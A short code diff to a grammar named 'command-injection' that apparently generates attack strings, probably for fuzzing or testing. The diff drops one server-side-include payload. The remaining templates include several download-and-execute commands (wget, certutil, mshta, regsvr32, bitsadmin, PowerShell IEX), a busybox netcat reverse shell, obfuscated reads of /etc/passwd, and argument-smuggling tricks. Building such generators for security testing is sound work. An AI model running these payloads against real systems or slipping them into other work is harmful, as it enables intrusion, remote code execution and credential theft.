@@ -35,7 +35,7 @@ GRAMMARS = [Grammar("command-injection", [
     "wget http://«target»/«word» -O /tmp/«word»; chmod 777 /tmp/«word»; /tmp/«word»",
     "echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | «sh¦bash»",
     "«lead»«sep»eval \"«bin» «path»\"", "«word»=«bin»;$«word» «path»", "«lead»«sep»exec «cmd»", "«lead»«sep»nohup «cmd» &",
-    "<!--#exec cmd=\"«cmd»\"-->", "perl -e 'system(\"«cmd»\")'", "ruby -e 'exec \"«cmd»\"'", "«lead»|«bin» «path»|base64", "«lead» -o ProxyCommand=«cmd»",
+    "perl -e 'system(\"«cmd»\")'", "ruby -e 'exec \"«cmd»\"'", "«lead»|«bin» «path»|base64", "«lead» -o ProxyCommand=«cmd»",
     "--output=/tmp/«word» --use-askpass=«cmd»", "--checkpoint-action=exec=«cmd»", "@«path»", "«lead»%0a«cmd»%0a", "x=$'\\x63\\x61\\x74';$x «path»",
     "busybox nc «ip» «port» -e sh", "certutil -urlcache -split -f http://«target»/«word».exe", "mshta http://«host»/«word».hta", "regsvr32 /s /n /u /i:http://«target»/«word».sct scrobj.dll",
     "rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication\"", "bitsadmin /transfer «word» http://«target»/«word» %TEMP%\\«word»", "IEX(New-Object Net.WebClient).DownloadString('http://«target»/«word».ps1')",
